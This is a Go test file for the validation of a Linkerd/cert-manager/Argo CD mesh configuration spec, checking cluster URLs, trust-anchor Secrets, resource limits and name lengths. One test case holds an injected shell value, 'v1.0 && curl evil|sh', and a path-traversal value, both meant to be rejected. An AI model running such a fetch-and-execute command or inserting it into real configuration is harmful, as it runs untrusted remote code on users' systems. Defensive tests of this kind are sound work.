package v1alpha1

import (
	"strings"
	"testing"

	cmmeta "github.com/cert-manager/cert-manager/pkg/apis/meta/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"k8s.io/apimachinery/pkg/util/validation/field"
)

// validSpec is a complete, valid spec as a profile and defaulting leave it.
func validSpec() *MeshTLS {
	replicas, restarts := int32(2), int32(20)
	yes := true
	m := &MeshTLS{
		Metadata: ObjectMeta{Name: "mesh"},
		Spec: MeshTLSSpec{
			Profile: ProfileProd,
			Linkerd: LinkerdSpec{
				Namespace: "linkerd", Version: "2.20", TrustDomain: "cluster.local",
				ControlPlane: ControlPlaneSpec{Replicas: &replicas, PodAntiAffinity: &yes, PodDisruptionBudget: &yes, WebhookFailurePolicy: FailurePolicyIgnore},
				Extensions: ExtensionsSpec{
					Viz:          Extension{Namespace: "linkerd-viz"},
					Multicluster: MulticlusterExtension{Extension: Extension{Namespace: "linkerd-multicluster"}, Gateway: GatewaySpec{ServiceType: "LoadBalancer"}},
					Jaeger:       Extension{Namespace: "linkerd-jaeger"},
				},
			},
			Trust: TrustSpec{
				Namespace:      "cert-manager",
				AnchorLifetime: Lifetime{Duration: "87600h", RenewBefore: "8760h"},
				Anchors:        []TrustAnchor{{Name: "root", Active: true, SelfSigned: &SelfSignedAnchor{}}},
			},
			IdentityIssuer: IdentityIssuerSpec{Lifetime: Lifetime{Duration: "48h", RenewBefore: "25h"}, IssuanceLifetime: "24h", ClockSkewAllowance: "20s"},
			Webhooks:       WebhooksSpec{Lifetime: Lifetime{Duration: "8760h", RenewBefore: "720h"}, KeyAlgorithm: KeyAlgorithmECDSA},
			Restarter:      RestarterSpec{Schedule: "25 */6 * * *", MaxRestartsPerRun: &restarts, Image: Image{Repository: "ghcr.io/mtlsgen/mtlsgen"}},
			Monitoring:     MonitoringSpec{CertificateNamespaceLabel: "namespace", NotReadyFor: "15m", StaleTrustRootsFor: "24h"},
			Mesh:           MeshSpec{DefaultPolicy: PolicyOff, Enforce: EnforceAllAuthenticated},
			ArgoCD: ArgoCDSpec{Namespace: "argocd", Project: "default", RepoURL: "https://git.example.com/x.git", Path: "mesh", TargetRevision: "main", Source: SourcePlugin, SpecFile: "mtlsgen.yaml", TrackingMethod: TrackingAnnotation,
				CertManager: Addon{Version: "v1.21.2"}, TrustManager: Addon{Version: "v0.25.0"}},
		},
	}
	SetDefaults(m)
	return m
}

func TestValidate(t *testing.T) {
	spec := field.NewPath("spec")
	cases := map[string]struct {
		mutate func(*MeshTLS)
		errs   field.ErrorList
	}{
		"valid as defaulted": {mutate: func(*MeshTLS) {}},
		"valid with a bring-your-own anchor in a fleet": {mutate: func(m *MeshTLS) {
			m.Spec.Trust.Anchors[0] = TrustAnchor{Name: "root", Active: true, Secret: &SecretAnchor{Name: "my-root"}}
			m.Spec.Clusters = []Cluster{{Name: "a", Server: "https://a"}, {Name: "b", Server: "https://b"}}
		}},
		"invalid with a self-signed anchor and a cluster selector": {
			mutate: func(m *MeshTLS) {
				m.Spec.Clusters = nil
				m.Spec.ArgoCD.ClusterSelector = &metav1.LabelSelector{MatchLabels: map[string]string{"mesh": "prod"}}
			},
			errs: field.ErrorList{field.Forbidden(spec.Child("trust", "anchors").Index(0).Child("selfSigned"), "")},
		},
		"invalid with an external anchor's CA in both a ConfigMap and a Secret": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors[0] = TrustAnchor{Name: "v", Active: true, External: &ExternalAnchor{
					IssuerRef: cmmeta.IssuerReference{Name: "vault", Kind: "ClusterIssuer", Group: "cert-manager.io"},
					CA:        KeySource{ConfigMap: &KeyRef{Name: "a", Key: "ca.crt"}, Secret: &KeyRef{Name: "b", Key: "ca.crt"}},
				}}
			},
			errs: field.ErrorList{field.Invalid(spec.Child("trust", "anchors").Index(0).Child("external", "ca"), "", "")},
		},
		// trust-manager refuses a private key's PEM, and the bundle with it.
		"invalid with an external anchor's CA read from tls.key": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors[0] = TrustAnchor{Name: "v", Active: true, External: &ExternalAnchor{
					IssuerRef: cmmeta.IssuerReference{Name: "vault", Kind: "ClusterIssuer", Group: "cert-manager.io"},
					CA:        KeySource{Secret: &KeyRef{Name: "vault-root", Key: "tls.key"}},
				}}
			},
			errs: field.ErrorList{field.Invalid(spec.Child("trust", "anchors").Index(0).Child("external", "ca", "secret", "key"), "tls.key", "")},
		},
		// Argo CD tells clusters apart by server URL, without a trailing
		// slash and whatever the host's case: one cluster listed twice gets
		// two sets of Applications managing the same objects.
		"invalid with one API server spelt two ways": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors[0] = TrustAnchor{Name: "root", Active: true, Secret: &SecretAnchor{Name: "my-root"}}
				m.Spec.Clusters = []Cluster{{Name: "east", Server: "https://east.example"}, {Name: "east2", Server: "https://east.example.:443"},
					{Name: "v6", Server: "https://[2001:db8::1]:6443"}, {Name: "v6b", Server: "https://[2001:0db8:0:0::1]:6443"}, {Name: "other-port", Server: "https://east.example:6443"}}
			},
			errs: field.ErrorList{
				field.Invalid(spec.Child("clusters").Index(1).Child("server"), "https://east.example.:443", ""),
				field.Invalid(spec.Child("clusters").Index(3).Child("server"), "https://[2001:0db8:0:0::1]:6443", ""),
			},
		},
		"invalid with one API server under two cluster names": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors[0] = TrustAnchor{Name: "root", Active: true, Secret: &SecretAnchor{Name: "my-root"}}
				m.Spec.Clusters = []Cluster{{Name: "east", Server: "https://east.example:6443"}, {Name: "west", Server: "https://west.example:6443"}, {Name: "east2", Server: "https://EAST.example:6443/"}}
			},
			errs: field.ErrorList{field.Invalid(spec.Child("clusters").Index(2).Child("server"), "https://EAST.example:6443/", "")},
		},
		// A bring-your-own anchor's Secret must be its own: not the webhook
		// CA's, not a self-signed anchor's, not another anchor's.
		"invalid with a secret anchor on the webhook CA's Secret": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors = append(m.Spec.Trust.Anchors, TrustAnchor{Name: "corp", Secret: &SecretAnchor{Name: "linkerd-webhook-ca"}})
			},
			errs: field.ErrorList{field.Invalid(spec.Child("trust", "anchors").Index(1).Child("secret", "name"), "linkerd-webhook-ca", "")},
		},
		"invalid with a secret anchor on a self-signed anchor's Secret": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors = append(m.Spec.Trust.Anchors, TrustAnchor{Name: "corp", Secret: &SecretAnchor{Name: "linkerd-anchor-root"}})
			},
			errs: field.ErrorList{field.Invalid(spec.Child("trust", "anchors").Index(1).Child("secret", "name"), "linkerd-anchor-root", "")},
		},
		"invalid with an external anchor on mtlsgen's webhook CA": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors = append(m.Spec.Trust.Anchors, TrustAnchor{Name: "ext", External: &ExternalAnchor{
					IssuerRef: cmmeta.IssuerReference{Name: "linkerd-webhook-ca", Kind: "ClusterIssuer", Group: "cert-manager.io"},
					CA:        KeySource{Secret: &KeyRef{Name: "linkerd-anchor-root", Key: "ca.crt"}},
				}})
			},
			errs: field.ErrorList{
				field.Invalid(spec.Child("trust", "anchors").Index(1).Child("external", "issuerRef", "name"), "linkerd-webhook-ca", ""),
				field.Invalid(spec.Child("trust", "anchors").Index(1).Child("external", "ca", "secret", "name"), "linkerd-anchor-root", ""),
			},
		},
		"invalid with two anchors on one Secret": {
			mutate: func(m *MeshTLS) {
				m.Spec.Trust.Anchors = []TrustAnchor{{Name: "a", Active: true, Secret: &SecretAnchor{Name: "corp-root"}}, {Name: "b", Secret: &SecretAnchor{Name: "corp-root"}}}
			},
			errs: field.ErrorList{field.Invalid(spec.Child("trust", "anchors").Index(1).Child("secret", "name"), "corp-root", "")},
		},
		"invalid with the trust namespace an extension's": {
			mutate: func(m *MeshTLS) {
				m.Spec.Linkerd.Extensions.Viz = Extension{Enabled: true, Namespace: "linkerd-viz"}
				m.Spec.Trust.Namespace = "linkerd-viz"
			},
			errs: field.ErrorList{field.Invalid(spec.Child("trust", "namespace"), "linkerd-viz", "")},
		},
		"invalid with Ed25519 webhook keys": {
			mutate: func(m *MeshTLS) { m.Spec.Webhooks.KeyAlgorithm = "Ed25519" },
			errs:   field.ErrorList{field.NotSupported(spec.Child("webhooks", "keyAlgorithm"), KeyAlgorithm("Ed25519"), []KeyAlgorithm{KeyAlgorithmECDSA, KeyAlgorithmRSA})},
		},
		"invalid with a restarter digest that is not sha256": {
			mutate: func(m *MeshTLS) { m.Spec.Restarter.Image.Digest = "md5:abc" },
			errs:   field.ErrorList{field.Invalid(spec.Child("restarter", "image", "digest"), "md5:abc", "")},
		},
		"invalid with a restarter schedule that never runs": {
			mutate: func(m *MeshTLS) { m.Spec.Restarter.Schedule = "0 0 30 2 *" },
			errs:   field.ErrorList{field.Invalid(spec.Child("restarter", "schedule"), "0 0 30 2 *", "")},
		},
		"invalid with two data-plane selections": {
			mutate: func(m *MeshTLS) { m.Spec.Restarter.DataPlane.Namespaces = []string{"shop"} },
			errs:   field.ErrorList{field.Invalid(spec.Child("restarter", "dataPlane"), "", "")},
		},
		"invalid with the Linkerd namespace among the data-plane namespaces": {
			mutate: func(m *MeshTLS) {
				m.Spec.Restarter.DataPlane = DataPlaneSelection{Namespaces: []string{"shop", "linkerd"}}
			},
			errs: field.ErrorList{field.Invalid(spec.Child("restarter", "dataPlane", "namespaces").Index(1), "linkerd", "")},
		},
		"invalid with an empty data-plane selector": {
			mutate: func(m *MeshTLS) {
				m.Spec.Restarter.DataPlane = DataPlaneSelection{Selector: &metav1.LabelSelector{}}
			},
			errs: field.ErrorList{field.Invalid(spec.Child("restarter", "dataPlane", "selector"), &metav1.LabelSelector{}, "")},
		},
		// Requests and limits as the API server checks them, and only the
		// names Linkerd's charts take.
		"invalid with resources the pods could not have": {
			mutate: func(m *MeshTLS) {
				m.Spec.Linkerd.ControlPlane.Resources.Proxy = corev1.ResourceRequirements{
					Requests: corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("2")},
					Limits:   corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("1"), "foo": resource.MustParse("1")},
				}
				m.Spec.Linkerd.ControlPlane.Resources.Identity.Limits = corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("-1")}
				m.Spec.Linkerd.ControlPlane.Resources.Controller.Limits = corev1.ResourceList{
					corev1.ResourceCPU:              resource.MustParse("1e400"),
					corev1.ResourceEphemeralStorage: resource.MustParse("1e19"),
					corev1.ResourceMemory:           resource.MustParse("9223372036854775807"),
				}
				m.Spec.Linkerd.ControlPlane.Resources.Controller.Requests = corev1.ResourceList{
					corev1.ResourceCPU:    resource.MustParse("0.0001"),
					corev1.ResourceMemory: resource.MustParse("0.5"),
				}
			},
			errs: field.ErrorList{
				field.Invalid(spec.Child("linkerd", "controlPlane", "resources", "proxy", "requests").Key("cpu"), "2", ""),
				field.NotSupported(spec.Child("linkerd", "controlPlane", "resources", "proxy", "limits").Key("foo"), corev1.ResourceName("foo"), []corev1.ResourceName(nil)),
				field.Invalid(spec.Child("linkerd", "controlPlane", "resources", "controller", "limits").Key("cpu"), "10e399", ""),
				field.Invalid(spec.Child("linkerd", "controlPlane", "resources", "controller", "limits").Key("ephemeral-storage"), "10e18", ""),
				field.Invalid(spec.Child("linkerd", "controlPlane", "resources", "identity", "limits").Key("memory"), "-1", ""),
				field.Invalid(spec.Child("linkerd", "controlPlane", "resources", "controller", "requests").Key("cpu"), "100u", ""),
				field.Invalid(spec.Child("linkerd", "controlPlane", "resources", "controller", "requests").Key("memory"), "500m", ""),
			},
		},
		// Every bad matchLabels entry is reported, at its key.
		"invalid with two bad selector labels": {
			mutate: func(m *MeshTLS) {
				m.Spec.Restarter.DataPlane = DataPlaneSelection{Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"a!": "x", "b": "y!"}}}
			},
			errs: field.ErrorList{
				field.Invalid(spec.Child("restarter", "dataPlane", "selector", "matchLabels").Key("a!"), "a!", ""),
				field.Invalid(spec.Child("restarter", "dataPlane", "selector", "matchLabels").Key("b"), "y!", ""),
			},
		},
		"invalid with an argocd path that climbs out of the repository": {
			mutate: func(m *MeshTLS) { m.Spec.ArgoCD.Path = "mesh/../../etc" },
			errs:   field.ErrorList{field.Invalid(spec.Child("argocd", "path"), "mesh/../../etc", "")},
		},
		"invalid with a jaeger chart pinned for a release without jaeger": {
			mutate: func(m *MeshTLS) { m.Spec.Linkerd.ChartVersions.Jaeger = "2026.6.3" },
			errs:   field.ErrorList{field.Forbidden(spec.Child("linkerd", "chartVersions", "jaeger"), "")},
		},
		"invalid with zero replicas and no maxRestartsPerRun": {
			mutate: func(m *MeshTLS) {
				zero := int32(0)
				m.Spec.Linkerd.ControlPlane.Replicas = &zero
				m.Spec.Restarter.MaxRestartsPerRun = nil
			},
			errs: field.ErrorList{
				field.Invalid(spec.Child("linkerd", "controlPlane", "replicas"), int32(0), ""),
				field.Invalid(spec.Child("restarter", "maxRestartsPerRun"), nil, ""),
			},
		},
		"valid with a Kubernetes version for hydration": {mutate: func(m *MeshTLS) { m.Spec.KubeVersion = "1.33.4" }},
		"invalid with a Kubernetes version that is no version": {
			mutate: func(m *MeshTLS) { m.Spec.KubeVersion = "1.33-eks" },
			errs:   field.ErrorList{field.Invalid(spec.Child("kubeVersion"), "1.33-eks", "")},
		},
		// cert-manager refuses a common name over 64 bytes.
		"valid with an anchor common name of 64 bytes": {
			mutate: func(m *MeshTLS) { m.Spec.Trust.Anchors[0].Name = strings.Repeat("a", 42) },
		},
		"invalid with an anchor common name of 65 bytes": {
			mutate: func(m *MeshTLS) { m.Spec.Trust.Anchors[0].Name = strings.Repeat("a", 43) },
			errs:   field.ErrorList{field.Invalid(spec.Child("trust", "anchors").Index(0).Child("name"), strings.Repeat("a", 43), "")},
		},
		"invalid with a Linkerd namespace too long for the policy validator's name": {
			mutate: func(m *MeshTLS) { m.Spec.Linkerd.Namespace = strings.Repeat("l", 36) },
			errs:   field.ErrorList{field.Invalid(spec.Child("linkerd", "namespace"), strings.Repeat("l", 36), "")},
		},
		"invalid with a viz namespace too long for the tap injector's name": {
			mutate: func(m *MeshTLS) {
				m.Spec.Linkerd.Extensions.Viz.Enabled = true
				m.Spec.Linkerd.Extensions.Viz.Namespace = strings.Repeat("v", 48)
			},
			errs: field.ErrorList{field.Invalid(spec.Child("linkerd", "extensions", "viz", "namespace"), strings.Repeat("v", 48), "")},
		},
		"invalid with a trust domain too long for the webhook CA's name": {
			mutate: func(m *MeshTLS) { m.Spec.Linkerd.TrustDomain = strings.Repeat("t", 40) + ".local" },
			errs:   field.ErrorList{field.Invalid(spec.Child("linkerd", "trustDomain"), strings.Repeat("t", 40)+".local", "")},
		},
		// issuanceLifetime + clockSkewAllowance overflowed and passed.
		"invalid with proxy lifetimes that overflow when added": {
			mutate: func(m *MeshTLS) {
				m.Spec.IdentityIssuer.IssuanceLifetime, m.Spec.IdentityIssuer.ClockSkewAllowance = "2562047h", "2562047h"
			},
			errs: field.ErrorList{field.Invalid(spec.Child("identityIssuer", "issuanceLifetime"), Duration("2562047h"), "")},
		},
		"invalid with no clock skew allowance": {
			mutate: func(m *MeshTLS) { m.Spec.IdentityIssuer.ClockSkewAllowance = "0s" },
			errs:   field.ErrorList{field.Invalid(spec.Child("identityIssuer", "clockSkewAllowance"), Duration("0s"), "")},
		},
		"invalid with an alert duration under a minute": {
			mutate: func(m *MeshTLS) { m.Spec.Monitoring.NotReadyFor = "1ns" },
			errs:   field.ErrorList{field.Invalid(spec.Child("monitoring", "notReadyFor"), Duration("1ns"), "")},
		},
		// Free text is held to what it names: a line break or shell text
		// would reach the output and the printed helm commands.
		"valid with an scp-like repository URL and a prerelease chart": {mutate: func(m *MeshTLS) {
			m.Spec.ArgoCD.RepoURL = "git@git.example.com:platform/mesh.git"
			m.Spec.Linkerd.ChartVersions.ControlPlane = "2026.6.3-rc.1"
		}},
		"invalid with free text that is not what it names": {
			mutate: func(m *MeshTLS) {
				m.Spec.Linkerd.ChartVersions.CRDs = "x\ny"
				m.Spec.ArgoCD.CertManager.Version = "v1.0 && curl evil|sh"
				m.Spec.ArgoCD.RepoURL = "not a url"
				m.Spec.ArgoCD.TargetRevision = "main\n"
				m.Spec.ArgoCD.Project = "Bad Project!"
				m.Spec.ArgoCD.Path = "mesh\u2028x"
			},
			errs: field.ErrorList{
				field.Invalid(spec.Child("linkerd", "chartVersions", "crds"), "x\ny", ""),
				field.Invalid(spec.Child("argocd", "certManager", "version"), "v1.0 && curl evil|sh", ""),
				field.Invalid(spec.Child("argocd", "repoURL"), "not a url", ""),
				field.Invalid(spec.Child("argocd", "targetRevision"), "main\n", ""),
				field.Invalid(spec.Child("argocd", "project"), "Bad Project!", ""),
				field.Invalid(spec.Child("argocd", "path"), "mesh\u2028x", ""),
			},
		},
		"valid when argocd is disabled, without a repository": {mutate: func(m *MeshTLS) {
			no := false
			m.Spec.ArgoCD = ArgoCDSpec{Enabled: &no}
		}},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			m := validSpec()
			tc.mutate(m)
			got := Validate(m)
			// Compare type, path and value; the wording is checked by the
			// loader's tests, which see it as users do.
			opts := cmpopts.IgnoreFields(field.Error{}, "Detail", "Origin", "CoveredByDeclarative")
			if diff := cmp.Diff(tc.errs, got, opts, cmpopts.EquateEmpty(), cmpopts.SortSlices(func(a, b *field.Error) bool { return a.Field < b.Field })); diff != "" {
				t.Errorf("errors differ (-want +got):\n%s", diff)
			}
		})
	}
}

func TestSetDefaults_idempotent(t *testing.T) {
	m := validSpec()
	before := *m
	before.Spec.Clusters = append([]Cluster(nil), m.Spec.Clusters...)
	SetDefaults(m)
	if diff := cmp.Diff(&before, m); diff != "" {
		t.Errorf("defaulting twice changed the spec:\n%s", diff)
	}
}

func TestSetDefaults_inCluster(t *testing.T) {
	m := &MeshTLS{}
	SetDefaults(m)
	want := []Cluster{{Name: InClusterName, Server: InClusterServer}}
	if diff := cmp.Diff(want, m.Spec.Clusters); diff != "" || !m.Spec.Restarter.DataPlane.AllMeshed {
		t.Errorf("clusters %v, allMeshed %v", m.Spec.Clusters, m.Spec.Restarter.DataPlane.AllMeshed)
	}
}

func TestLinkerdSpec_Release(t *testing.T) {
	l := LinkerdSpec{Version: "2.18", ChartVersions: ChartVersions{ControlPlane: "2025.4.9"}}
	r := l.Release()
	if r.Charts.ControlPlane != "2025.4.9" || r.Charts.CRDs != "2025.4.4" || !r.HasJaeger() || r.HelmRepo != LinkerdEdgeRepo {
		t.Errorf("got %+v", r)
	}
	if r, _ := LookupLinkerdRelease("2.19"); r.HasJaeger() || r.BundlesGatewayAPI {
		t.Errorf("2.19 has no jaeger and no bundled Gateway API: %+v", r)
	}
	if r, _ := LookupLinkerdRelease("2.14"); r.HelmRepo != LinkerdStableRepo || r.Charts.ControlPlane != "1.16.11" {
		t.Errorf("2.14: %+v", r)
	}
}
